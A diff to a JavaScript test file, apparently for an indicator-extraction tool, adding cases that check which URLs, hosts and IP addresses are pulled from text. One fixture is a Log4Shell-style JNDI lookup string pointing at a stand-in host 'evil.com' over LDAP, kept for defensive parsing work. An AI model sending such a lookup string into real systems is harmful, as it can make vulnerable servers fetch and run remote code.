@@ -38,7 +38,10 @@ describe('observables in text', () => {
     ['http://a.com/,http://b.com/', 'http://a.com/', 'http://b.com/'],
     ['http://a.com/?u=http://b.com/x', 'http://a.com/?u=http://b.com/x'],
     ["<a href='http://evil.com/a'>x</a>", 'http://evil.com/a'],
-    [`\${jndi:ldap://evil.com:1389/a}`, 'ldap://evil.com:1389/a'],
+    [`\${jndi:ldap://evil.com:1389/a}`, 'ldap://evil.com:1389/a', 'evil.com'],
+    ['ldap://198.51.100.200:1389/a', 'ldap://198.51.100.200:1389/a', '198.51.100.200'],
+    ['rmi://u@[2001:db8::5]:1099/x smb://files/x', 'rmi://u@[2001:db8::5]:1099/x', '2001:db8::5', 'smb://files/x'],
+    ['ftp://198.51.100.200/a', 'ftp://198.51.100.200/a'],
     ['{"url":"http://203.0.113.7:80/"}', 'http://203.0.113.7/'],
     ['http://u:p@[2001:db8::5]:8080/x', 'http://u:p@[2001:db8::5]:8080/x'],
   ])('%s', (text, ...found) => {
